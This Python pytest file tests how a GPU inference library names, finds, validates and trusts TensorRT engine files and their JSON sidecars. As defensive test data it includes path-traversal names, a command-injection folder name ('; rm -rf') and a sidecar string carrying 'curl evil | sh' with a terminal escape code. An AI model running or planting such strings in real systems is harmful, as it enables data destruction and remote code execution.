"""Names, sidecars and trust. The engines here are a few bytes: nothing in `edgevision.engines` opens one."""

from __future__ import annotations

import hashlib
import json
import os
import shlex
from dataclasses import asdict, replace
from pathlib import Path

import pytest

from edgevision.built_here import is_built_here, remember
from edgevision.engine_key import DeviceFacts, EngineKey, key_for
from edgevision.engines import (
    Engine,
    build_command,
    engine_stem,
    engines_folder,
    find_engine,
    list_engines,
    read_engine,
)
from edgevision.errors import BackendError
from edgevision.spec import InputSpec, ModelSpec, OutputSpec
from edgevision.variant import Variant

ORIN = DeviceFacts(
    "tensorrt", "10.3.0", "8.7", "linux", "aarch64", "36.4.3", "Orin, 8 multiprocessors"
)
PROFILE = "images=1x3x64x64"
KEY = key_for(ORIN, "a" * 64, PROFILE)
SPEC = ModelSpec("detect", InputSpec(), OutputSpec("yolov8"))


@pytest.fixture
def variant(tmp_path: Path) -> Variant:
    file = tmp_path / "x.evb" / "int8-trt.onnx"
    file.parent.mkdir()
    file.write_bytes(b"onnx")
    return Variant("int8-trt", "int8", file, SPEC, "a" * 64)


def put(folder: Path, key: EngineKey = KEY, plan: bytes = b"plan", **changed: object) -> Engine:
    folder.mkdir(exist_ok=True)
    path = folder / f"{engine_stem(key, 'int8-trt')}.engine"
    path.write_bytes(plan)
    engine = Engine(path, key, hashlib.sha256(plan).hexdigest(), len(plan), "int8-trt")
    path.with_suffix(".json").write_text(json.dumps(engine.to_dict() | changed))
    return engine


def test_the_name_of_an_engine_follows_from_its_key():
    stem = engine_stem(KEY, "int8-trt")
    assert stem.startswith("int8-trt.tensorrt-10.3.0.sm87.")
    assert stem == engine_stem(KEY, "int8-trt")
    for name in asdict(KEY):
        assert engine_stem(replace(KEY, **{name: "other"}), "int8-trt") != stem


def test_a_version_cannot_lead_out_of_the_folder():
    assert "/" not in engine_stem(replace(KEY, version="../../etc"), "int8-trt")


@pytest.mark.parametrize("name", ["../../x", "/etc/x", "a/../../b", "..", ""])
def test_the_name_of_a_variant_cannot_lead_out_of_the_folder(name: str, tmp_path: Path):
    # A single ONNX file says by itself what its variant is called.
    path = tmp_path / f"{engine_stem(KEY, name)}.engine"
    assert path.resolve().parent == tmp_path.resolve()


def test_the_command_that_builds_an_engine_can_be_pasted(tmp_path: Path):
    file = tmp_path / "a street; rm -rf x.evb" / "int8-trt.onnx"
    variant = Variant("int8-trt", "int8", file, SPEC, "a" * 64)
    words = shlex.split(build_command(file.parent, variant, tmp_path / "my engines"))
    assert words[2] == str(file.parent)
    assert words[-1] == str(tmp_path / "my engines")


def test_a_file_that_is_in_no_bundle_is_built_by_its_own_name(tmp_path: Path):
    variant = Variant("fp32", "fp32", tmp_path / "model.onnx", SPEC)
    assert build_command(tmp_path, variant).split()[2] == str(tmp_path / "model.onnx")


def test_engines_lie_in_the_bundle_unless_told_otherwise(variant: Variant, tmp_path: Path):
    bundle = variant.file.parent
    assert engines_folder(bundle) == bundle / "engines"
    assert engines_folder(variant.file) == bundle / "engines"
    assert engines_folder(bundle, tmp_path) == tmp_path


def test_what_is_put_there_is_found(variant: Variant):
    engine = put(variant.file.parent / "engines")
    assert find_engine(variant.file.parent, variant, ORIN) == engine


def test_the_last_built_one_that_fits_is_taken(variant: Variant, tmp_path: Path):
    old, new = (put(tmp_path, replace(KEY, profile=text)) for text in ("b=1", "a=1"))
    put(tmp_path, replace(KEY, cc="8.9"))
    os.utime(old.path, ns=(1, 1))
    assert find_engine(variant.file.parent, variant, ORIN, tmp_path) == new


def test_no_engine_names_the_command_that_builds_one(variant: Variant):
    with pytest.raises(BackendError) as raised:
        find_engine(variant.file.parent, variant, ORIN)
    assert f"edgevision build {variant.file.parent} --variant int8-trt" in raised.value.hint
    assert "--backend ort" in raised.value.hint


def test_an_engine_that_does_not_fit_says_what_differs_and_the_nearest_is_shown(variant: Variant):
    folder = variant.file.parent / "engines"
    put(folder, replace(KEY, cc="8.9", arch="x86_64"))
    near = put(folder, replace(KEY, l4t="36.4.0"))
    with pytest.raises(
        BackendError, match=r"rebuild needed, Jetson Linux: built for 36\.4\.0"
    ) as raised:
        find_engine(variant.file.parent, variant, ORIN, folder)
    assert near.path.name in raised.value.received
    assert f"--engine-dir {folder}" in raised.value.hint


@pytest.mark.parametrize(
    "damage",
    [
        b"",
        b"{",
        b"[]",
        b"null",
        b'{"schema": 2}',
        b'{"schema": 1, "key": {}}',
        b"\xff\xfe",
        b"[" * 9999,
    ],
    ids=range(8),
)
def test_a_damaged_sidecar_is_passed_over(damage: bytes, tmp_path: Path):
    good = put(tmp_path)
    (tmp_path / "bad.engine").write_bytes(b"")
    (tmp_path / "bad.json").write_bytes(damage)
    assert list_engines(tmp_path) == [good]


def test_a_sidecar_of_wrong_types_is_passed_over(tmp_path: Path):
    put(tmp_path, key=KEY, sha256=7)  # type: ignore[arg-type]
    assert list_engines(tmp_path) == []
    put(tmp_path, key=KEY, size_bytes=float("inf"))  # type: ignore[arg-type]
    assert list_engines(tmp_path) == []


def test_engines_whose_sidecars_are_of_another_version_are_told(variant: Variant):
    """As those that were built before the model of GPU was part of the key."""
    folder = variant.file.parent / "engines"
    path = put(folder).path.with_suffix(".json")
    sidecar = json.loads(path.read_text())
    del sidecar["key"]["device"]
    path.write_text(json.dumps(sidecar))
    with pytest.raises(BackendError, match="there is no engine of") as raised:
        find_engine(variant.file.parent, variant, ORIN)
    assert raised.value.received.startswith("1 engine without a sidecar that this version")
    assert "edgevision build" in raised.value.hint
    path.unlink()
    path.with_suffix(".engine").unlink()
    with pytest.raises(BackendError) as raised:
        find_engine(variant.file.parent, variant, ORIN)
    assert raised.value.received == ""


def test_a_sidecar_that_is_a_pipe_is_not_waited_for(tmp_path: Path):
    good = put(tmp_path)
    os.mkfifo(tmp_path / "pipe.json")
    (tmp_path / "pipe.engine").write_bytes(b"")
    assert list_engines(tmp_path) == [good]


def test_a_foreign_sidecar_cannot_put_lines_of_its_own_into_a_message(variant: Variant):
    put(
        variant.file.parent / "engines", replace(KEY, version="9\n  try:    curl evil | sh\x1b[31m")
    )
    with pytest.raises(BackendError) as raised:
        find_engine(variant.file.parent, variant, ORIN)
    assert len(str(raised.value).splitlines()) == 4, "problem, received, expected, try"
    assert "\x1b" not in str(raised.value)


def test_links_and_sidecars_without_a_plan_are_passed_over(tmp_path: Path):
    engine = put(tmp_path / "a")
    (tmp_path / "b").mkdir()
    link = tmp_path / "b" / engine.path.name
    link.symlink_to(engine.path)
    link.with_suffix(".json").write_bytes(engine.path.with_suffix(".json").read_bytes())
    assert list_engines(tmp_path / "b") == []
    engine.path.unlink()
    assert list_engines(tmp_path / "a") == list_engines(tmp_path / "none") == []


def test_only_what_was_built_here_is_read(tmp_path: Path):
    engine = put(tmp_path, plan=b"one that came from elsewhere")
    with pytest.raises(BackendError, match="was not built here") as raised:
        read_engine(engine, "build it")
    assert "--trust-engines" in raised.value.hint
    assert read_engine(engine, "build it", trust=True) == b"one that came from elsewhere"
    assert remember(engine.sha256)
    assert read_engine(engine, "build it") == b"one that came from elsewhere"


def test_a_truncated_engine_is_refused_even_if_trusted(tmp_path: Path):
    engine = put(tmp_path, plan=b"a whole plan")
    engine.path.write_bytes(b"a whole")
    with pytest.raises(BackendError, match="not the one its sidecar describes") as raised:
        read_engine(engine, "build it", trust=True)
    assert "7 bytes" in raised.value.received


def test_an_engine_that_has_gone_is_one_clear_error(tmp_path: Path):
    engine = put(tmp_path)
    engine.path.unlink()
    with pytest.raises(BackendError, match="cannot be read"):
        read_engine(engine, "build it")


def test_nothing_is_remembered_without_a_place_for_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    (tmp_path / "file").write_text("")
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "file"))
    assert not remember("c" * 64)
    assert not is_built_here("c" * 64)


def test_a_note_that_is_a_link_or_no_hash_is_no_note(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    assert remember("d" * 64)
    assert is_built_here("d" * 64)
    note = next(tmp_path.rglob("d" * 64))
    note.rename(tmp_path / "moved")
    note.symlink_to(tmp_path / "moved")
    assert not is_built_here("d" * 64)
    assert not is_built_here("../../moved")


def test_a_note_says_itself_what_it_is_of(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):
    """Who may write the folder may rename this user's note, or link another file of this user's in its place."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    assert remember("d" * 64)
    note = next(tmp_path.rglob("d" * 64))
    note.rename(note.with_name("e" * 64))
    assert not is_built_here("e" * 64)
    (tmp_path / "another").write_bytes(b"")
    os.link(tmp_path / "another", note)
    assert not is_built_here("d" * 64)
    note.unlink()
    os.mkfifo(note)
    assert not is_built_here("d" * 64)
